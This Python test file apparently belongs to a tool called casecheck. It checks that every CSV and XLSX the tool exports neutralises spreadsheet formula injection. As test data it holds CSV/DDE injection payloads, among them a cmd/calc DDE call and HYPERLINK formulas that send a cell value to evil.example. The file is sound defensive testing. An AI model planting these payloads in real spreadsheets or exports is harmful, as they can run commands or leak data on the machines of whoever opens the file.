"""One safe writer for every CSV and XLSX casecheck writes: a table of hostile cells through
``model.files.write_table`` and through each command that writes a table (label exports, the
import's error report, suggestions), and a scan that no other module writes CSV or XLSX itself."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from model.files import FORMULA_START, csv_cell, unneutralise, write_table, xlsx_cell
from service.settings import get_settings
from tests.hardening.kit import FORMULAS, ROOT
from tests.test_scoring import LETTER
from training.store import LabelStore

# cell -> what a spreadsheet must show: the same text, never run
HOSTILE = [
    *FORMULAS,
    "=1+1", "+SUM(A1:A9)", "-1+2", "@SUM(1)", "=HYPERLINK(\"http://evil.example\",\"click\")",
    "\n=1+1", "\uff1d1+1", "\uff0bcmd", "\uff0d2", "\uff20SUM(1)",  # a newline first; full-width = + - @
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=already quoted", " =leading space", "a=b", "plain text",
    "x" * 40_000, "nul\x00and\x07bell", "",
]


def _rows() -> list[dict[str, object]]:
    return [{"n": i, "cell": cell, "negative": -i} for i, cell in enumerate(HOSTILE)]


def assert_no_formula(cell: object, where: str) -> None:
    if isinstance(cell, str):
        assert not cell.startswith(FORMULA_START), f"{where}: {cell[:40]!r}"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_hostile_cell_is_written_inert(tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    write_table(path, ["n", "cell", "=header", "negative"], _rows())
    if suffix == ".csv":
        table = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    else:
        book = load_workbook(path)
        table = [list(r) for r in book.active.iter_rows(values_only=True)]
        assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)  # no formula cells
    assert table[0][2] == "'=header"
    for row in table:
        for cell in row:
            assert_no_formula(cell, suffix)
    for i, cell in enumerate(HOSTILE):
        written = table[i + 1][1] or ""
        if cell.startswith(FORMULA_START):
            assert written.startswith("'"), cell
        if suffix == ".csv":
            assert unneutralise(written) == cell  # nothing lost: the quote is all that was added
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no partial file left


def test_the_cell_functions_agree():
    for cell in HOSTILE:
        assert_no_formula(csv_cell(cell), "csv_cell")
        assert_no_formula(xlsx_cell(cell), "xlsx_cell")
    assert csv_cell(-3) == "'-3" and csv_cell(None) == "" and csv_cell(["=a"]) == '["=a"]'
    assert len(xlsx_cell("y" * 40_000)) == 32_767


@pytest.fixture
def hostile_store(tmp_path, monkeypatch) -> str:
    url = f"sqlite:///{tmp_path / 'labels.db'}"
    monkeypatch.setenv("CASECHECK_DATABASE_URL", url)
    store = LabelStore(url)
    text = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")\n" + LETTER
    store.add_feedback(text, "vcl_letter", "missing_vrr", 1, consent=True, assessor="@attacker",
                       note="missed", document_id="=cmd|' /C calc'!A0", status="approved")
    store.add_feedback(text, "vcl_letter", "lacks_empathy", 0, consent=True, assessor="+1+1", note="wrong",
                       document_id="=cmd|' /C calc'!A0", model_version="-2+3", status="approved")
    return url


def _csv_cells(path: Path) -> list[str]:
    return [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")) for c in row]


def test_label_exports_write_no_formula(run, hostile_store, tmp_path):
    current, history = tmp_path / "labels.csv", tmp_path / "history.csv"
    assert run("labels", "export", current).exit_code == 0
    assert run("labels", "export", "--history", history, "--format", "csv").exit_code == 0
    to_stdout = run("labels", "export", "-", "--format", "csv")
    assert to_stdout.exit_code == 0
    cells = _csv_cells(current) + _csv_cells(history) + [c for r in csv.reader(io.StringIO(to_stdout.stdout))
                                                         for c in r]
    for cell in cells:
        assert_no_formula(cell, "labels export")
    assert "'=cmd|' /C calc'!A0" in cells and "'@attacker" in cells and "'+1+1" in cells


def test_an_exported_file_imports_again_with_the_same_text(run, hostile_store, tmp_path, monkeypatch):
    exported = tmp_path / "labels.csv"
    assert run("labels", "export", exported).exit_code == 0
    monkeypatch.setenv("CASECHECK_DATABASE_URL", f"sqlite:///{tmp_path / 'other.db'}")
    get_settings.cache_clear()  # another store for the import
    assert run("labels", "import", exported, "--assessor", "A").exit_code == 0, "import of the export"
    [doc] = LabelStore(f"sqlite:///{tmp_path / 'other.db'}").documents()
    assert doc.id == "=cmd|' /C calc'!A0" and doc.text.startswith("=HYPERLINK(")


def test_the_import_error_report_writes_no_formula(run, tmp_path, monkeypatch):
    monkeypatch.setenv("CASECHECK_DATABASE_URL", f"sqlite:///{tmp_path / 'labels.db'}")
    bad = tmp_path / "bad.csv"
    bad.write_text("id,doc_type,text,=evil\n=x,vcl_letter,=1+1,@1\n", encoding="utf-8")
    report = tmp_path / "errors.csv"
    result = run("labels", "import", bad, "--report", report)
    assert result.exit_code == 2 and report.exists()
    for cell in _csv_cells(report):
        assert_no_formula(cell, "error report")


def test_suggestions_write_no_formula(run, tmp_path, monkeypatch):
    monkeypatch.setenv("CASECHECK_DATABASE_URL", f"sqlite:///{tmp_path / 'labels.db'}")
    drafts = tmp_path / "drafts.jsonl"
    drafts.write_text('{"id": "=1+1", "doc_type": "vcl_letter", "text": "=HYPERLINK(1)\\n' +
                      LETTER.replace("\n", "\\n").replace('"', '\\"') + '"}\n', encoding="utf-8")
    out = tmp_path / "suggest.csv"
    assert run("labels", "suggest", drafts, "--n", "1", "-o", out).exit_code == 0
    cells = _csv_cells(out)
    assert "'=1+1" in cells
    for cell in cells:
        assert_no_formula(cell, "suggest")


def test_no_module_writes_csv_or_xlsx_by_itself():
    """Every CSV and XLSX goes through model/files.py: nothing else makes a csv writer or a workbook to save."""
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.to_csv\(|\.to_excel\(")
    found = [f"{path.relative_to(ROOT)}" for folder in ("model", "service", "training")
             for path in (ROOT / folder).rglob("*.py")
             if path.name != "files.py" and "generator" not in path.parts and pattern.search(path.read_text())]
    assert found == []
